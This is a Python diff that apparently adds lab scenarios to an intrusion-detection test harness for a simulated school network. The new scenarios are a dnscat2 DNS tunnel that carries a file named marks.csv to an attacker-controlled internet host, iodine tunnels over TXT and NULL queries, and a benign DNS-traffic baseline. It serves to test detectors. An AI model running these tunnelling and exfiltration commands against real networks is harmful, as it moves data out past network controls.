@@ -14,6 +14,7 @@ import random
 import signal
 import sys
 import time
+import uuid
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -1065,6 +1066,151 @@ def dns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+DNSCAT = Path(__file__).with_name("dnscat.py")
+
+
+def dnscat2_direct(lan: SchoolLan, small: bool = False) -> Outcome:
+    """dnscat2's transport sent straight to the attacker's server: no domain, TXT/CNAME/MX."""
+    a, wan = lan.attacker, lan.wan
+    py = which("python3") or sys.executable
+    secret = lan.work / "marks.csv"
+    secret.write_bytes(os.urandom(6144))
+    seconds = 40
+    server = lan.start(
+        wan.ns, "dnscat-server", py, str(DNSCAT), "server", "--listen", wan.ip, "--seconds", "60"
+    )
+    try:
+        time.sleep(0.5)
+        args = ["client", "--server", wan.ip, "--file", "marks.csv", "--seconds", str(seconds)]
+        lan.attack_started = time.monotonic()
+        out = lan.run(a.ns, py, str(DNSCAT), *args, timeout=seconds + 15)
+    finally:
+        lan.stop(server, signal.SIGINT)
+    return Outcome(
+        "dnscat2_direct",
+        ("dns_tunnel", "dns_bypass"),
+        "dnscat.py " + " ".join(args),
+        "dnscat2's DNS transport in direct mode (tests/lab/dnscat.py: dnscat2 0.07's "
+        "encoding with --no-encryption): a 6 KiB file as hex labels behind dnscat., TXT, "
+        f"CNAME or MX at random, straight to {wan.ip} (the attacker's server answering as "
+        "dnscat2's does), then an empty poll a second; no domain, so every query is a "
+        "domain of its own",
+        a,
+        "dnscat2",
+        fast=False,
+        notes={
+            "output_tail": (out.stdout + out.stderr)[-300:],
+            "server_log": lan.log("dnscat-server")[-200:],
+        },
+    )
+
+
+def _iodine_direct(name: str, qtype: str):  # type: ignore[no-untyped-def]
+    """iodine with -T QTYPE, straight to iodined on the internet host (no resolver)."""
+
+    def run(lan: SchoolLan, small: bool = False) -> Outcome:
+        a, wan = lan.attacker, lan.wan
+        server = lan.start(
+            wan.ns, "iodined-direct", "iodined", "-f", "-c", "-P", "labsecret", "-l", wan.ip,
+            "-p", "53", "172.31.78.1/27", TUNNEL_DOMAIN,
+        )  # fmt: skip
+        args = ["-f", "-r", "-T", qtype, "-P", "labsecret", wan.ip, TUNNEL_DOMAIN]
+        client = None
+        up = False
+        try:
+            time.sleep(1)
+            lan.attack_started = time.monotonic()
+            client = lan.start(a.ns, "iodine-direct", "timeout", "-s", "INT", "45", "iodine", *args)
+            deadline = time.monotonic() + 30
+            while time.monotonic() < deadline and client.poll() is None:
+                if "Connection setup complete" in lan.log("iodine-direct"):
+                    up = True
+                    break
+                time.sleep(0.3)
+            if up:  # push a little data through the tunnel
+                lan.run(a.ns, "busybox", "ping", "-c", "5", "-i", "0.3", "172.31.78.1", timeout=15)
+                lan.run(
+                    a.ns,
+                    "curl",
+                    "-s",
+                    "-m",
+                    "8",
+                    "-o",
+                    "/dev/null",
+                    "http://172.31.78.1/chunk.bin",
+                    timeout=15,
+                )
+        finally:
+            if client is not None:
+                lan.stop(client, signal.SIGINT)
+            lan.stop(server)
+        return Outcome(
+            name,
+            ("dns_tunnel", "dns_bypass"),
+            "iodine " + " ".join(args),
+            f"iodine with {qtype} queries sent straight to iodined on the internet host "
+            f"({wan.ip}), not through the school resolver; ping and a 64 KiB download through "
+            "the tunnel",
+            a,
+            "iodine",
+            notes={"tunnel_up": up, "iodine_log_tail": lan.log("iodine-direct")[-300:]},
+        )
+
+    return run
+
+
+iodine_txt_direct = _iodine_direct("iodine_txt_direct", "TXT")
+iodine_null_direct = _iodine_direct("iodine_null_direct", "NULL")
+
+
+def _dns_names(student: int, rng: random.Random) -> list[str]:
+    """One student's lookups: sites, hashed CDN and ad-frame hosts, telemetry, updates."""
+    sites = [f"www.site{student}{i}.{('com', 'be', 'nl', 'org')[i % 4]}" for i in range(25)]
+    hashed = [f"{rng.randbytes(16).hex()}.safeframe.googlesyndication.com" for _ in range(20)]
+    hashed += [f"{uuid.UUID(int=rng.getrandbits(128))}.fp.measure.office.com" for _ in range(20)]
+    other = [f"e{rng.randrange(10000)}.dscx.akamaiedge.net", "au.download.windowsupdate.com"]
+    other += ["settings-win.data.microsoft.com", "v10.events.data.microsoft.com"]
+    names = sites + hashed + other
+    rng.shuffle(names)
+    return names
+
+
+def dns_busy_benign(lan: SchoolLan, small: bool = False) -> Outcome:
+    """Three students' busy browsing through the school resolver, which relays it all."""
+    wan, srv = lan.wan, lan.srv
+    conf = lan.work / "dnsmasq-inet.conf"
+    conf.write_text(
+        f"interface={IF}\nbind-interfaces\nlisten-address={wan.ip}\nno-resolv\nno-hosts\n"
+        f"address=/#/{wan.ip}\n"
+    )
+    resolver = lan.start(
+        wan.ns, "dnsmasq-inet", "dnsmasq", "-k", f"--conf-file={conf}", "--user=root",
+        f"--pid-file={lan.work / 'dnsmasq-inet.pid'}",
+    )  # fmt: skip
+    rng = random.Random(20261207)
+    asked = 0
+    try:
+        time.sleep(0.5)
+        for i, s in enumerate(lan.students, 1):
+            names = _dns_names(i, rng)
+            script = "; ".join(f"busybox nslookup -type=a {n} {srv.ip}" for n in names)
+            lan.run(s.ns, "sh", "-c", script + " >/dev/null 2>&1; true", timeout=120)
+            asked += len(names)
+    finally:
+        lan.stop(resolver)
+    return Outcome(
+        "dns_busy_benign",
+        (),
+        "busybox nslookup -type=a NAME " + srv.ip,
+        f"each student looks up {asked // 3} names through the school resolver: 25 sites, "
+        "20 hashed ad-frame hosts (32 hex characters), 20 telemetry names with a GUID, CDN "
+        f"and update hosts; the resolver relays all {asked} to a resolver on the internet "
+        "host (more random-looking names than one client's threshold, from one address)",
+        None,
+        "busybox",
+    )
+
+
 # --------------------------------------------------------------------- brute force
 def brute_force(lan: SchoolLan, small: bool = False) -> Outcome:
     a = lan.attacker
@@ -1138,6 +1284,10 @@ SCENARIOS = {
         Scenario("udp_flood", ("hping3",), udp_flood),
         Scenario("icmp_flood", ("hping3",), icmp_flood),
         Scenario("dhcp_starvation", ("dhcpstarv",), dhcp_starvation),
+        Scenario("dnscat2_direct", ("python3",), dnscat2_direct),
+        Scenario("dns_busy_benign", ("busybox", "dnsmasq"), dns_busy_benign),
+        Scenario("iodine_txt_direct", ("iodine", "iodined", "curl"), iodine_txt_direct),
+        Scenario("iodine_null_direct", ("iodine", "iodined", "curl"), iodine_null_direct),
         Scenario("rogue_ra", ("atk6-fake_router6", "ping"), rogue_ra),
         Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
         Scenario("sweep_and_scan", ("nmap",), sweep_and_scan),
